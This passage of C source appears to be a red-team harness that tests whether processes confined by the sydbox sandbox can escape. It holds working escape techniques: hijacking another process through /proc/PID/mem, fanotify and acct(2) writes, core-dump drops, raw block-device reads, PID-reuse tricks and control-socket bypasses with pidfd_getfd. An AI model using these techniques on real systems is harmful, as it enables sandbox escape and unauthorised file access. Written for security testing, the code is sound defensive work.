      printf("N: mkdir: %s\n", en(errno));
      fflush(stdout);
      _exit(3);
    }
    int nst;
    waitpid(n, &nst, 0);
    _exit(WIFEXITED(nst) ? WEXITSTATUS(nst) : 7);
  }
  int st;
  waitpid(p, &st, 0);
  const int r = WIFEXITED(st) ? WEXITSTATUS(st) : 255;
  if (r == 2) return blocked("pid reuse", EAGAIN);
  if (r > 1) return blocked("N", r);
  printf("# N took C's pid %d\n", c);
  struct stat sb;
  if (stat(target, &sb) == 0)
    return escaped("status-of-the-dead: %s made (uid %d) by a uid-65534 process given a dead caller's ids", target,
                   sb.st_uid);
  printf("BLOCKED status-of-the-dead: %s absent, N's mkdir EACCES\n", target);
  return 1;
}

/* ---- 9e. look-ups by pid number (a red-team review) ----------------------------
 * Three ways a process that locked itself got a magic command applied, and
 * a released thread whose tid released the next task that got it. */

/* stat(2) of /dev/sydbox/CMD: 0 when applied (or true). */
static int magic(const char* cmd) {
  char p[PATH_MAX + 32];
  struct stat sb;
  snprintf(p, sizeof p, "/dev/sydbox%s%s", *cmd ? "/" : "", cmd);
  return stat(p, &sb) == 0 ? 0 : errno;
}

static int try_create(const char* path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) return errno;
  close(fd);
  return 0;
}

/* ---- 9h. a locked process's reach into an unlocked one ------------------------
 * mem-hijack: the magic lock is per process, but a process may write the
 * memory of another of its uid through /proc/PID/mem. U (us, unlocked)
 * holds a path in memory that it stats when told to: the stand-in for
 * whatever code L, owning U's memory, could make U run. L, our child,
 * locks itself, writes a magic command into that buffer through
 * /proc/U/mem and, once U has stat'ed it, does what its sandbox forbade:
 * writes DIR/denied/pwned ("write") or reads DIR/denied/secret ("read").
 * Natively (no sydbox) the write into U's memory works and U stats what
 * L put there: the primitive is real. */
static char hijack_buf[PATH_MAX] = "/";

static int mem_hijack(const char* dir, const char* what) {
  const int w = strcmp(what, "write") == 0;
  char target[PATH_MAX], cmd[128];
  snprintf(target, sizeof target, "%s/denied/%s", dir, w ? "pwned" : "secret");
  snprintf(cmd, sizeof cmd, "/dev/sydbox/core/sandbox/%s:off", w ? "write" : "read");
  int told[2], done[2];
  if (pipe(told) != 0 || pipe(done) != 0) return blocked("pipe", errno);
  const pid_t u = getpid();
  const pid_t l = fork();
  if (l < 0) return blocked("fork", errno);
  if (l == 0) {
    const int lock = magic("core/trace/magic_lock:on");
    info("L: magic_lock:on: %s", lock ? en(lock) : "applied");
    char mp[64];
    snprintf(mp, sizeof mp, "/proc/%d/mem", (int)u);
    int fd = open(mp, O_RDWR | O_CLOEXEC);
    int e = fd < 0 ? errno : 0;
    if (fd >= 0 && pwrite(fd, cmd, strlen(cmd) + 1, (off_t)(uintptr_t)hijack_buf) < 0) e = errno;
    info("L: write '%s' into U's memory through %s: %s", cmd, mp, e ? en(e) : "done");
    if (write(told[1], "x", 1) != 1) _exit(5);
    char x;
    if (read(done[0], &x, 1) != 1) _exit(5);
    if (w) {
      e = try_create(target);
    } else {
      int f = open(target, O_RDONLY | O_CLOEXEC);
      e = f < 0 ? errno : 0;
      if (f >= 0) close(f);
    }
    info("L (locked): %s %s: %s", w ? "create" : "read", target, e ? en(e) : "done");
    _exit(e ? 1 : 0);
  }
  char x;
  if (read(told[0], &x, 1) != 1) return blocked("L", EPIPE);
  /* What is in the buffer now, read as memory another process may change. */
  char seen[PATH_MAX];
  memcpy(seen, (const void*)(volatile char*)hijack_buf, sizeof seen);
  seen[sizeof seen - 1] = 0;
  if (strcmp(seen, "/") != 0) {
    struct stat sb;
    int r = stat(seen, &sb) == 0 ? 0 : errno;
    info("U (unlocked): stat %s, which L wrote into our memory: %s", seen, r ? en(r) : "done");
  } else {
    info("U: our memory is as it was");
  }
  if (write(done[1], "x", 1) != 1) return blocked("L", EPIPE);
  int st;
  waitpid(l, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
    return escaped("mem-hijack: a locked process had its unlocked parent apply '%s' and %s %s", cmd,
                   w ? "made" : "read", target);
  printf("BLOCKED mem-hijack: %s %s\n", target, w ? "absent" : "unread");
  return 1;
}

/* own-mem [CMD]: after the magic command CMD (if any), write our own memory
 * through /proc/self/mem and /proc/self/task/TID/mem: what a process may
 * always do. Exit 0 when both writes landed. */
static char own_buf[2][16] = {"before", "before"};

static int own_mem(const char* cmd) {
  if (cmd && *cmd && magic(cmd) != 0) return blocked(cmd, EINVAL);
  char p[2][64];
  snprintf(p[0], sizeof p[0], "/proc/self/mem");
  snprintf(p[1], sizeof p[1], "/proc/self/task/%ld/mem", (long)syscall(SYS_gettid));
  const char* said[2];
  int ok = 1;
  for (int i = 0; i < 2; ++i) {
    int fd = open(p[i], O_RDWR | O_CLOEXEC);
    int e = fd < 0 ? errno : 0;
    if (fd >= 0 && pwrite(fd, "after", 6, (off_t)(uintptr_t)own_buf[i]) != 6) e = errno ? errno : EIO;
    if (fd >= 0) close(fd);
    const char* got = (const char*)(volatile char*)own_buf[i];
    said[i] = e ? en(e) : strcmp(got, "after") == 0 ? "written" : "unchanged";
    ok = ok && !e && strcmp(got, "after") == 0;
  }
  printf("own memory: %s, thread's: %s\n", said[0], said[1]);
  return ok ? 0 : 1;
}

/* fan-write FILE: (root) fanotify hands out descriptors the kernel opens
 * itself, with the listener's event_f_flags: a FAN_OPEN mark on FILE, a
 * read-only open of it, and the event's descriptor is open for writing.
 * No open(2) of FILE for writing is ever made (found by a red-team review;
 * with FAN_MARK_FILESYSTEM the same listener gets descriptors of files any
 * process on the host opens). */
static int fan_write(const char* file) {
  int fan = fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDWR | O_CLOEXEC | O_LARGEFILE);
  if (fan < 0) return blocked("fanotify_init", errno);
  if (fanotify_mark(fan, FAN_MARK_ADD, FAN_OPEN, AT_FDCWD, file) != 0) return blocked("fanotify_mark", errno);
  int r = open(file, O_RDONLY | O_CLOEXEC);
  if (r < 0) return blocked("open O_RDONLY", errno);
  char buf[4096];
  ssize_t n = read(fan, buf, sizeof buf);
  struct fanotify_event_metadata* ev = (struct fanotify_event_metadata*)buf;
  if (n < (ssize_t)sizeof *ev) return blocked("fanotify event", n < 0 ? errno : EIO);
  if (ev->fd < 0) return blocked("fanotify event fd", EBADF);
  if (pwrite(ev->fd, "PWNED\n", 6, 0) != 6) return blocked("pwrite", errno);
  return escaped("fan-write: %s written through a fanotify event's O_RDWR descriptor", file);
}

/* ---- red-team review s20b: the kernel opens or changes a file for us ------ */

/* acct-append FILE: (root, CAP_SYS_PACCT) acct(2) names FILE and the kernel
 * opens it itself, O_WRONLY|O_APPEND, and appends a record for every
 * process that exits. A child named SYDACCT-PWNED exits, accounting is
 * switched off, and FILE is searched for that name: ESCAPED when found. No
 * open(2) of FILE for writing is ever made. */
static int acct_append(const char* file) {
  char name[16];
  snprintf(name, sizeof name, "SYDACCT-%s", "PWNED");
  if (acct(file) != 0) return blocked("acct", errno);
  pid_t p = fork();
  if (p == 0) {
    prctl(PR_SET_NAME, name);
    _exit(0);
  }
  waitpid(p, NULL, 0);
  if (acct(NULL) != 0) info("acct(NULL): %s", en(errno));
  static char buf[1 << 16];
  int e = 0;
  ssize_t n = read_all(file, buf, sizeof buf, &e);
  if (n < 0) return blocked("read back", e);
  if (!memmem(buf, (size_t)n, name, strlen(name))) return blocked("record not found", ENOENT);
  return escaped("acct-append: the kernel appended an accounting record naming %s to %s", name, file);
}

/* core-drop DIR: a child chdir()s into DIR (chdir is checked as a read),
 * raises RLIMIT_CORE to its hard limit and dies of SIGSEGV with a marker in
 * its heap. With a relative kernel.core_pattern ("core", Debian's default)
 * the kernel unlinks DIR/core if it exists and creates it anew, as the
 * dying process, with the process's memory: a file made (or replaced) in a
 * directory the sandbox may not write. ESCAPED when DIR/core* holds the
 * marker. */
static int core_drop(const char* dir) {
  char pat[256] = "";
  int e = 0;
  if (read_all("/proc/sys/kernel/core_pattern", pat, sizeof pat - 1, &e) > 0) pat[strcspn(pat, "\n")] = 0;
  info("core_pattern '%s'", pat);
  if (pat[0] == '|' || pat[0] == '/') return blocked("core_pattern is not relative", ENOTSUP);
  if (chdir(dir) != 0) return blocked("chdir", errno);
  struct rlimit rl;
  getrlimit(RLIMIT_CORE, &rl);
  rl.rlim_cur = rl.rlim_max;
  if (setrlimit(RLIMIT_CORE, &rl) != 0 || rl.rlim_cur < (1 << 20)) return blocked("RLIMIT_CORE", errno ? errno : EPERM);
  char marker[64];
  snprintf(marker, sizeof marker, "SYDCORE-%s-%d", "PWNED", (int)getpid());
  pid_t p = fork();
  if (p == 0) {
    char* heap = malloc(1 << 16);
    for (size_t i = 0; i + 64 <= (1 << 16); i += 64) memcpy(heap + i, marker, strlen(marker) + 1);
    __asm__ volatile("" ::"r"(heap) : "memory");
    raise(SIGSEGV);
    _exit(0);
  }
  int st = 0;
  waitpid(p, &st, 0);
  info("child: signal %d, core dumped: %s", WIFSIGNALED(st) ? WTERMSIG(st) : 0, WCOREDUMP(st) ? "yes" : "no");
  DIR* d = opendir(".");
  if (!d) return blocked("opendir", errno);
  struct dirent* de;
  static char buf[1 << 20];
  while ((de = readdir(d))) {
    if (strncmp(de->d_name, "core", 4) != 0) continue;
    int fd = open(de->d_name, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    ssize_t n;
    int found = 0;
    while (!found && (n = read(fd, buf, sizeof buf)) > 0) found = memmem(buf, (size_t)n, marker, strlen(marker)) != NULL;
    close(fd);
    if (found) {
      closedir(d);
      return escaped("core-drop: %s/%s was made by the kernel and holds %s", dir, de->d_name, marker);
    }
  }
  closedir(d);
  return blocked("no core file with the marker", ENOENT);
}

/* fs-ioctl FILE setversion|fslabel|freeze VALUE: ioctls that change a file or its
 * file system through a descriptor opened read-only, which the supervisor
 * does not look at (it sends FS_IOC_SETFLAGS and FS_IOC_FSSETXATTR up only):
 * FS_IOC_SETVERSION sets FILE's inode generation (owner or CAP_FOWNER; ext4
 * without metadata_csum), FS_IOC_SETFSLABEL rewrites the label in the
 * superblock of the file system holding FILE (CAP_SYS_ADMIN). ESCAPED when
 * the value read back is VALUE. */
#ifndef FS_IOC_SETVERSION
#define FS_IOC_GETVERSION _IOR('v', 1, long)
#define FS_IOC_SETVERSION _IOW('v', 2, long)
#endif
#ifndef FIFREEZE
#define FIFREEZE _IOWR('X', 119, int)
#define FITHAW _IOWR('X', 120, int)
#endif
#ifndef FS_IOC_SETFSLABEL
#define FSLABEL_MAX 256
#define FS_IOC_GETFSLABEL _IOR(0x94, 49, char[FSLABEL_MAX])
#define FS_IOC_SETFSLABEL _IOW(0x94, 50, char[FSLABEL_MAX])
#endif
static int fs_ioctl(const char* file, const char* what, const char* value) {
  int fd = open(file, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return blocked("open O_RDONLY", errno);
  if (strcmp(what, "setversion") == 0) {
    int before = 0, v = atoi(value), after = 0;
    if (ioctl(fd, FS_IOC_GETVERSION, &before) != 0) return blocked("FS_IOC_GETVERSION", errno);
    info("generation before: %d", before);
    if (ioctl(fd, FS_IOC_SETVERSION, &v) != 0) return blocked("FS_IOC_SETVERSION", errno);
    ioctl(fd, FS_IOC_GETVERSION, &after);
    if (after != atoi(value) || after == before) return blocked("generation unchanged", EIO);
    return escaped("fs-ioctl: inode generation of %s changed %d -> %d through a read-only descriptor", file, before, after);
  }
  if (strcmp(what, "freeze") == 0) {
    /* FIFREEZE (CAP_SYS_ADMIN): every writer to the whole file system
     * blocks until FITHAW. Thawed again at once (after VALUE ms). */
    if (ioctl(fd, FIFREEZE, 0) != 0) return blocked("FIFREEZE", errno);
    usleep((useconds_t)atoi(value) * 1000);
    if (ioctl(fd, FITHAW, 0) != 0) info("FITHAW: %s", en(errno));
    return escaped("fs-ioctl: the file system holding %s was frozen for %s ms through a read-only descriptor", file, value);
  }
  char before[FSLABEL_MAX] = "", v[FSLABEL_MAX] = "", after[FSLABEL_MAX] = "";
  if (ioctl(fd, FS_IOC_GETFSLABEL, before) != 0) return blocked("FS_IOC_GETFSLABEL", errno);
  info("label before: '%s'", before);
  snprintf(v, sizeof v, "%s", value);
  if (ioctl(fd, FS_IOC_SETFSLABEL, v) != 0) return blocked("FS_IOC_SETFSLABEL", errno);
  ioctl(fd, FS_IOC_GETFSLABEL, after);
  if (strcmp(after, value) != 0 || strcmp(after, before) == 0) return blocked("label unchanged", EIO);
  return escaped("fs-ioctl: the label of the file system holding %s changed '%s' -> '%s' through a read-only descriptor",
                 file, before, after);
}

/* rawdev-read DEV PATH: (root) read PATH of the ext4 file system on the
 * block device DEV without opening PATH: the inode number comes from
 * stat(PATH) (a stat, not a read), then the superblock, the group
 * descriptor, the inode and its first extent are read from DEV, opened
 * read-only. Small files (one extent, depth 0) only. Prints the contents;
 * ESCAPED when read. */
static uint32_t le32(const unsigned char* p) { return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24; }
static uint16_t le16(const unsigned char* p) { return (uint16_t)(p[0] | p[1] << 8); }
static int rawdev_read(const char* dev, const char* path) {
  struct stat st;
  if (stat(path, &st) != 0) return blocked("stat", errno);
  int fd = open(dev, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return blocked("open device", errno);
  unsigned char sb[1024], gd[64], ino[256];
  if (pread(fd, sb, sizeof sb, 1024) != (ssize_t)sizeof sb || le16(sb + 0x38) != 0xEF53) return blocked("superblock", EINVAL);
  const uint64_t bs = 1024ull << le32(sb + 0x18);
  const uint32_t per_group = le32(sb + 0x28), first_data = le32(sb + 0x14);
  const uint16_t isize = le16(sb + 0x58);
  const int is64 = (le32(sb + 0x60) & 0x80) != 0;
  const uint16_t dsize = is64 ? le16(sb + 0xFE) : 32;
  const uint64_t group = (st.st_ino - 1) / per_group, index = (st.st_ino - 1) % per_group;
  if (pread(fd, gd, dsize, (off_t)((first_data + 1) * bs + group * dsize)) != dsize) return blocked("group descriptor", EIO);
  const uint64_t table = le32(gd + 8) | (is64 ? (uint64_t)le32(gd + 0x28) << 32 : 0);
  if (pread(fd, ino, sizeof ino < isize ? sizeof ino : isize, (off_t)(table * bs + index * isize)) <= 0) return blocked("inode", EIO);
  const uint64_t size = le32(ino + 4);
  const unsigned char* eh = ino + 0x28;
  if (le16(eh) != 0xF30A || le16(eh + 6) != 0 || le16(eh + 2) == 0) return blocked("extent header (not a small extent file)", EINVAL);
  const uint64_t start = ((uint64_t)le16(eh + 12 + 6) << 32) | le32(eh + 12 + 8);
  char data[4096];
  const size_t n = size < sizeof data - 1 ? size : sizeof data - 1;
  if (pread(fd, data, n, (off_t)(start * bs)) != (ssize_t)n) return blocked("data", EIO);
  data[n] = 0;
  printf("%s", data);
  if (n && data[n - 1] != '\n') printf("\n");
  return escaped("rawdev-read: %zu bytes of %s read from %s (inode %lu)", n, path, dev, (unsigned long)st.st_ino);
}

/* reopen-nameless DIR [CMD]: after magic CMD (if any), reopen for writing
 * through /proc/self/fd/N a memfd, an unlinked file and an O_TMPFILE file
 * in DIR, as the kernel allows. Prints each; exit 0 when all reopened. */
static int reopen_nameless(const char* dir, const char* cmd) {
  if (cmd && *cmd && magic(cmd) != 0) return blocked(cmd, EINVAL);
  char unl[PATH_MAX];
  snprintf(unl, sizeof unl, "%s/unlinked", dir);
  int fds[3];
  fds[0] = memfd_create("nameless", MFD_CLOEXEC);
  fds[1] = open(unl, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fds[1] >= 0) unlink(unl);
  fds[2] = open(dir, O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);
  const char* what[3] = {"memfd", "unlinked", "tmpfile"};
  int ok = 1;
  for (int i = 0; i < 3; ++i) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
    int r = fds[i] < 0 ? -1 : open(p, O_RDWR | O_CLOEXEC);
    int e = r < 0 ? (fds[i] < 0 ? EBADF : errno) : 0;
    if (r >= 0 && write(r, "x", 1) != 1) e = errno;
    printf("%s: %s\n", what[i], e ? en(e) : "reopened");
    ok = ok && !e;
    if (r >= 0) close(r);
  }
  return ok ? 0 : 1;
}

/* stale-parent: a stale parent entry. U, a child of ours made while we are still
 * unlocked, makes a magic stat (its entry: unlocked) and exits. We lock
 * ourselves. L, forked with U's pid (ns_last_pid), makes no call and forks
 * C; C's entry is made by Lookup, which finds U's stale (exited) entry
 * under L's pid and copies its state: C is unlocked. */
static int stale_parent(const char* dir) {
  char target[PATH_MAX], cmd[PATH_MAX + 64];
  snprintf(target, sizeof target, "%s/denied/pwned", dir);
  snprintf(cmd, sizeof cmd, "allowlist/write+%s/denied/***", dir);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
  if (lp < 0) return blocked("open ns_last_pid", errno);
  pid_t u = fork();
  if (u == 0) _exit(magic("") == 0 ? 0 : 1); /* U: an entry, unlocked */
  int st;
  waitpid(u, &st, 0);
  if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) return blocked("U's magic stat", EINVAL);
  if (magic("core/trace/magic_lock:on") != 0) return blocked("lock ourselves", EINVAL);
  if (magic("core/sandbox/write?") != ENOENT) return blocked("we are not locked", EINVAL);
  pid_t k = fork(); /* control: a child of ours is locked */
  if (k == 0) _exit(magic(cmd) == ENOENT ? 0 : 1);
  waitpid(k, &st, 0);
  if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) return blocked("control child was not locked", EINVAL);
  char num[32];
  snprintf(num, sizeof num, "%d", u - 1);
  if (pwrite(lp, num, strlen(num), 0) < 0) return blocked("write ns_last_pid", errno);
  pid_t l = fork();
  if (l == 0) {
    if (getpid() != u) _exit(2);
    pid_t c = fork(); /* L itself makes no call: its pid still has U's entry */
    if (c == 0) {
      int m = magic(cmd);
      printf("# C (child of L, pid %d = U's): magic %s: %s\n", u, cmd, m ? en(m) : "applied");
      int e = try_create(target);
      printf("# C: create %s: %s\n", target, e ? en(e) : "made");
      _exit(e ? 3 : 0);
    }
    int cs;
    waitpid(c, &cs, 0);
    _exit(WIFEXITED(cs) ? WEXITSTATUS(cs) : 4);
  }
  waitpid(l, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 2) return blocked("pid reuse", EAGAIN);
  struct stat sb;
  if (stat(target, &sb) == 0) return escaped("stale-parent: a locked process's grandchild applied '%s' and made %s", cmd, target);
  printf("BLOCKED stale-parent: %s absent\n", target);
  return 1;
}

/* eldest-pid: the eldest's pid. The eldest (us) locks itself, starts D and
 * exits. D (reparented to sydbox) forks L, L forks X with the eldest's pid
 * and exits: X is an orphan, so its entry gets the initial state, and
 * `tgid != eldest_` exempts it from "the strictest state seen". With
 * "exec": the eldest is locked by core/trace/magic_lock:exec (it execs
 * itself once) instead of locking itself. */
static int eldest_pid(const char* dir, const char* how) {
  char target[PATH_MAX], cmd[PATH_MAX + 64];
  snprintf(target, sizeof target, "%s/denied/pwned", dir);
  snprintf(cmd, sizeof cmd, "allowlist/write+%s/denied/***", dir);
  if (strcmp(how, "exec") == 0) {
    char self[PATH_MAX];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) return blocked("readlink", errno);
    self[n] = 0;
    char* av[] = {self, "eldest-pid", (char*)dir, "exec2", NULL};
    execv(self, av);
    return blocked("exec", errno);
  }
  if (strcmp(how, "exec2") != 0 && magic("core/trace/magic_lock:on") != 0) return blocked("lock ourselves", EINVAL);
  if (magic("core/sandbox/write?") != ENOENT) return blocked("the eldest is not locked", EINVAL);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
  if (lp < 0) return blocked("open ns_last_pid", errno);
  const pid_t eldest = getpid();
  printf("# eldest %d, locked\n", eldest);
  fflush(stdout);
  pid_t d = fork();
  if (d == 0) {
    setsid();
    while (getppid() == eldest) usleep(10000); /* reparented: the eldest has exited */
    usleep(200000);                           /* and sydbox has reaped it */
    char num[32];
    snprintf(num, sizeof num, "%d", eldest - 1);
    pid_t l = fork();
    if (l == 0) {
      if (pwrite(lp, num, strlen(num), 0) < 0) _exit(5);
      const pid_t parent = getpid();
      pid_t x = fork();
      if (x == 0) {
        while (getppid() == parent) usleep(1000); /* an orphan */
        if (getpid() != eldest) {
          printf("BLOCKED eldest-pid: pid reuse: EAGAIN\n");
          _exit(2);
        }
        int m = magic(cmd);
        printf("# X (pid %d = the eldest's, orphan): magic %s: %s\n", getpid(), cmd, m ? en(m) : "applied");
        int e = try_create(target);
        printf("# X: create %s: %s\n", target, e ? en(e) : "made");
        if (e == 0) printf("ESCAPED eldest-pid: a locked sandbox's orphan applied '%s' and made %s\n", cmd, target);
        else printf("BLOCKED eldest-pid: %s\n", en(e));
        fflush(stdout);
        _exit(e ? 1 : 0);
      }
      _exit(0);
    }
    waitpid(l, NULL, 0);
    _exit(0);
  }
  return 0; /* the eldest exits; D and X go on */
}

/* ipc-dead-peer: the control socket's peer. K connects (SO_PEERCRED: K's pid) on a
 * socket we share and exits; once it is reaped, InSandbox(K) finds no
 * /proc/K and the client counts as outside the sandbox: its lines are
 * never checked against our lock. A flood of lines from a second client
 * keeps the control thread busy so that K is gone by the accept. */
/* The control-socket attacks' start: lock ourselves, connect to SOCK
 * (its address left in *addr) and ask a query, whose answer is left in
 * REPLY. Returns the connected socket, or -errno. */
static int lock_and_ask(const char* sock, struct sockaddr_un* addr, char* reply, size_t size) {
  signal(SIGPIPE, SIG_IGN);
  if (magic("core/trace/magic_lock:on") != 0) return -EINVAL;
  memset(addr, 0, sizeof *addr);
  addr->sun_family = AF_UNIX;
  snprintf(addr->sun_path, sizeof addr->sun_path, "%s", sock);
  int s0 = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s0 < 0 || connect(s0, (struct sockaddr*)addr, sizeof *addr) != 0) return -errno;
  if (write(s0, "core/sandbox/write?\n", 20) != 20) return -errno;
  ssize_t n = read(s0, reply, size - 1);
  reply[n > 0 ? n : 0] = 0;
  return s0;
}

static int ipc_dead_peer(const char* sock, const char* dir, int rounds) {
  char target[PATH_MAX], line[PATH_MAX + 64];
  snprintf(target, sizeof target, "%s/denied/pwned", dir);
  snprintf(line, sizeof line, "allowlist/write+%s/denied/***\n", dir);
  struct sockaddr_un addr;
  char buf[512];
  int s0 = lock_and_ask(sock, &addr, buf, sizeof buf);
  if (s0 < 0) return blocked("lock ourselves and connect", -s0);
  ssize_t n;
  printf("# our own connection: %s", buf);
  if (strncmp(buf, "ERR EPERM", 9) != 0) return blocked("control: not refused", EINVAL);
  /* the flood: lines our (locked, live) client sends, each answered EPERM */
  static char flood[65536];
  for (size_t i = 0; i < sizeof flood; i += 2) flood[i] = 'x', flood[i + 1] = '\n';
  int fl = fcntl(s0, F_GETFL);
  fcntl(s0, F_SETFL, fl | O_NONBLOCK);
  for (int r = 0; r < rounds; ++r) {
    if (!getenv("SYD_ATTACK_NOFLOOD")) (void)!write(s0, flood, sizeof flood);
    while (read(s0, buf, sizeof buf) > 0) {
    }
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    pid_t k = fork();
    if (k == 0) _exit(connect(s, (struct sockaddr*)&addr, sizeof addr) == 0 ? 0 : 1);
    int st;
    waitpid(k, &st, 0); /* K is gone, and reaped */
    if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) {
      close(s);
      continue;
    }
    if (write(s, "core/sandbox/write?\n", 20) != 20) {
      close(s);
      continue;
    }
    n = read(s, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    if (strncmp(buf, "TRUE", 4) == 0) {
      printf("# round %d: K (pid %d, dead) counted as outside: %s", r, k, buf);
      if (write(s, line, strlen(line)) != (ssize_t)strlen(line)) return blocked("write", errno);
      n = read(s, buf, sizeof buf - 1);
      buf[n > 0 ? n : 0] = 0;
      printf("# %s", buf);
      int e = try_create(target);
      if (e == 0) return escaped("ipc-dead-peer: a locked process applied '%.*s' through the control socket and made %s",
                                 (int)strlen(line) - 1, line, target);
      return blocked("create", e);
    }
    close(s);
  }
  printf("BLOCKED ipc-dead-peer: every connection was refused\n");
  return 1;
}

/* ipc-deep: the control socket decides "inside the sandbox" by walking
 * PPid links up to sydbox, at most 4096 of them (control.cc InSandbox).
 * A locked process makes a chain of DEPTH nested processes (clone with
 * CLONE_VM: one page of stack each, nothing copied, and no CLONE_FS, so
 * no notification); the deepest connects, is "outside" (or, DEPTH 0 with
 * sydbox as pid 1 of its namespace: the walk stops at pid 1 before it
 * compares) and its lines are never checked against its lock. */
static const char* deep_sock;
static const char* deep_dir;
static int deep_left;
static char* deep_stacks;
#define DEEP_STACK 16384
static int deep_leaf(void) {
  char target[PATH_MAX], line[PATH_MAX + 64], buf[512];
  snprintf(target, sizeof target, "%s/denied/pwned", deep_dir);
  snprintf(line, sizeof line, "allowlist/write+%s/denied/***\n", deep_dir);
  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  snprintf(addr.sun_path, sizeof addr.sun_path, "%s", deep_sock);
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connect(s, (struct sockaddr*)&addr, sizeof addr) != 0) return blocked("connect (deep)", errno);
  if (write(s, line, strlen(line)) != (ssize_t)strlen(line)) return blocked("write", errno);
  ssize_t n = read(s, buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = 0;
  printf("# deepest (pid %d): %s", (int)getpid(), buf);
  fflush(stdout);
  int e = try_create(target);
  if (e == 0) return escaped("ipc-deep: a locked process applied '%.*s' through the control socket and made %s",
                             (int)strlen(line) - 1, line, target);
  return blocked("create", e);
}
static int deep_level(void* arg) {
  (void)arg;
  if (deep_left-- <= 0) return deep_leaf();
  char* stack = deep_stacks + (size_t)deep_left * DEEP_STACK + DEEP_STACK;
  pid_t c = clone(deep_level, stack, CLONE_VM | SIGCHLD, NULL);
  if (c < 0) return blocked("clone", errno);
  int st;
  while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
  }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}
static int ipc_deep(const char* sock, const char* dir, int depth) {
  deep_sock = sock, deep_dir = dir, deep_left = depth;
  struct sockaddr_un addr;
  char buf[512];
  int s0 = lock_and_ask(sock, &addr, buf, sizeof buf);
  if (s0 < 0) return blocked("lock ourselves and connect", -s0);
  printf("# our own connection (pid %d): %s", (int)getpid(), buf);
  fflush(stdout);
  close(s0);
  deep_stacks = mmap(NULL, (size_t)(depth + 1) * DEEP_STACK, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (deep_stacks == MAP_FAILED) return blocked("mmap", errno);
  return deep_level(NULL);
}

/* ipc-stolen-conn: the control socket decides each line by the lock of
 * the process that connected (SO_PEERCRED/SO_PEERPIDFD at accept), not of
 * the one that writes it. We (the eldest, unlocked) connect and keep the
 * connection (close-on-exec, never inherited: L closes its copy). We fork
 * L; L locks itself, checks that its own connection is refused, then takes
 * our connection with pidfd_open + pidfd_getfd (ptrace-checked, allowed
 * inside one Landlock domain, not checked by the supervisor) and applies
 * the allowlist command for DIR/denied through it. */
static int ipc_stolen_conn(const char* sock, const char* dir, const char* how, int stolen) {
  char target[PATH_MAX], line[PATH_MAX + 64], buf[512];
  snprintf(target, sizeof target, "%s/denied/pwned", dir);
  snprintf(line, sizeof line, "allowlist/write+%s/denied/***\n", dir);
  setvbuf(stdout, NULL, _IOLBF, 0);
  signal(SIGPIPE, SIG_IGN);
  int s0 = stolen;
  pid_t l = 0;
  if (strcmp(how, "exec-child") == 0) goto child; /* locked at the exec (magic_lock:exec) */
  struct sockaddr_un addr;
  memset(&addr, 0, sizeof addr);
  addr.sun_family = AF_UNIX;
  snprintf(addr.sun_path, sizeof addr.sun_path, "%s", sock);
  s0 = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s0 < 0 || connect(s0, (struct sockaddr*)&addr, sizeof addr) != 0) return blocked("connect (eldest)", errno);
  if (write(s0, "core/sandbox/write?\n", 20) != 20) return blocked("write", errno);
  ssize_t n = read(s0, buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = 0;
  printf("# the eldest's (unlocked) connection: %s", buf);
  l = fork();
  if (l < 0) return blocked("fork", errno);
  if (l == 0 && strcmp(how, "exec") == 0) {
    char num[16];
    snprintf(num, sizeof num, "%d", s0);
    execl("/proc/self/exe", "syd-attack", "ipc-stolen-conn", sock, dir, "exec-child", num, (char*)NULL);
    _exit(blocked("exec L", errno));
  }
  if (l == 0) {
  child:
    if (strcmp(how, "exec-child") != 0) close(s0); /* not inherited: L must take it */
    struct sockaddr_un a2;
    char b2[512];
    int own = strcmp(how, "exec-child") == 0 ? 0 : lock_and_ask(sock, &a2, b2, sizeof b2);
    if (own == 0) {
      memset(&a2, 0, sizeof a2);
      a2.sun_family = AF_UNIX;
      snprintf(a2.sun_path, sizeof a2.sun_path, "%s", sock);
      own = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
      if (own < 0 || connect(own, (struct sockaddr*)&a2, sizeof a2) != 0) _exit(blocked("connect (L)", errno));
      if (write(own, "core/sandbox/write?\n", 20) != 20) _exit(blocked("write", errno));
      ssize_t k = read(own, b2, sizeof b2 - 1);
      b2[k > 0 ? k : 0] = 0;
    }
    if (own < 0) _exit(blocked("lock L and connect", -own));
    printf("# L (pid %d, locked) on its own connection: %s", (int)getpid(), b2);
    if (strncmp(b2, "ERR EPERM", 9) != 0) _exit(blocked("L's own connection not refused", EINVAL));
    if (magic("core/sandbox/write?") != ENOENT) _exit(blocked("L is not locked", EINVAL));
    int pfd = (int)syscall(SYS_pidfd_open, getppid(), 0);
